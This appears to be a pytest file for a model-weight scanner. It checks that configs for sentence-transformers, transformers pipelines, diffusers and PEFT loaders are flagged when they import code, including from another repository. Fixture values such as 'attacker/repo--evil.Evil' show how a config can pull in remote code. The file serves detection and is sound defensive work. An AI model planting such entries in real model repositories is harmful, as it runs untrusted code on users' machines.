"""Loader configs other than ``auto_map`` that make a library import code.

Only ``auto_map`` was read, so these scanned clean:

* sentence-transformers ``modules.json``: each module's ``"type"`` outside
  ``sentence_transformers.`` goes to ``get_class_from_dynamic_module`` whenever the
  model is a local folder (no ``trust_remote_code`` needed), so
  ``"attacker/repo--evil.Evil"`` fetches and imports ``evil.py`` from another repository;
  any other dotted name is imported with ``import_from_string``;
* transformers ``custom_pipelines.<task>.impl`` in ``config.json`` (``pipeline()``
  imports it like an ``auto_map`` entry);
* a diffusers ``model_index.json`` whose ``_class_name`` is ``[module, class]``: a custom
  pipeline, fetched from the repository or community the module names.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from weightscan.scanner import Verdict
from weightscan.scanner.api import scan_path


def _scan(tmp_path: Path, name: str, config: object):
    (tmp_path / name).write_text(json.dumps(config))
    return scan_path(tmp_path / name).files[0]


def _rules(report) -> set[str]:
    return {f.rule_id for f in report.findings}


ST_MODULES = [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
]


def test_sentence_transformers_remote_module(tmp_path: Path) -> None:
    modules = [*ST_MODULES, {"idx": 2, "path": "2", "type": "attacker/repo--evil.Evil"}]
    report = _scan(tmp_path, "modules.json", modules)
    assert "code.auto-map.remote" in _rules(report), report.findings


def test_sentence_transformers_foreign_module(tmp_path: Path) -> None:
    modules = [*ST_MODULES, {"idx": 2, "path": "2", "type": "mypackage.layers.Evil"}]
    report = _scan(tmp_path, "modules.json", modules)
    assert report.verdict is not Verdict.CLEAN, report.findings


def test_sentence_transformers_modules_stay_clean(tmp_path: Path) -> None:
    modules = [
        *ST_MODULES,
        {"idx": 2, "path": "2", "type": "sentence_transformers.models.Normalize"},
    ]
    assert _scan(tmp_path, "modules.json", modules).verdict is Verdict.CLEAN


def test_transformers_custom_pipeline_from_another_repository(tmp_path: Path) -> None:
    config = {
        "model_type": "bert",
        "custom_pipelines": {"pair-classification": {"impl": "attacker/repo--pipe.PairPipe"}},
    }
    assert "code.auto-map.remote" in _rules(_scan(tmp_path, "config.json", config))


@pytest.mark.parametrize("module", ["attacker/repo", "lpw_stable_diffusion"])
def test_diffusers_custom_pipeline_not_in_the_folder(tmp_path: Path, module: str) -> None:
    index = {"_class_name": [module, "EvilPipeline"], "unet": ["diffusers", "UNet2DModel"]}
    report = _scan(tmp_path, "model_index.json", index)
    assert "code.auto-map.remote" in _rules(report), report.findings


def test_diffusers_model_index_stays_clean(tmp_path: Path) -> None:
    index = {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "text_encoder": ["transformers", "CLIPTextModel"],
        "safety_checker": [None, None],
    }
    assert _scan(tmp_path, "model_index.json", index).verdict is Verdict.CLEAN


def test_other_json_lists_are_data(tmp_path: Path) -> None:
    rows = [{"type": "question", "text": "a"}, {"type": "answer", "text": "b"}]
    assert _scan(tmp_path, "train.json", rows).verdict is Verdict.CLEAN


def test_peft_auto_mapping_outside_transformers(tmp_path: Path) -> None:
    """``AutoPeftModel.from_pretrained`` imports ``auto_mapping.parent_library`` and calls
    ``<base_model_class>.from_pretrained`` on what it finds there."""
    config = {
        "peft_type": "LORA",
        "base_model_name_or_path": "org/base",
        "auto_mapping": {"base_model_class": "Evil", "parent_library": "mypackage.loaders"},
    }
    report = _scan(tmp_path, "adapter_config.json", config)
    assert "code.config-import" in _rules(report), report.findings


def test_peft_auto_mapping_in_transformers_stays_clean(tmp_path: Path) -> None:
    config = {
        "peft_type": "LORA",
        "auto_mapping": {
            "base_model_class": "LlamaForCausalLM",
            "parent_library": "transformers.models.llama.modeling_llama",
        },
    }
    assert _scan(tmp_path, "adapter_config.json", config).verdict is Verdict.CLEAN


def test_loader_configs_inside_an_archive_folder_are_checked() -> None:
    """A member's name is its path in the archive: "model/modules.json" was not
    "modules.json", so its module types were never looked at (the archive scanned clean)."""
    import io
    import zipfile

    from tests.fixtures.archives import rules_of, scan_bytes

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        modules = [*ST_MODULES, {"idx": 2, "path": "2", "type": "attacker/repo--evil.Evil"}]
        archive.writestr("model/modules.json", json.dumps(modules))
    report = scan_bytes(buf.getvalue(), name="repo.zip")
    assert "code.auto-map.remote" in rules_of(report)
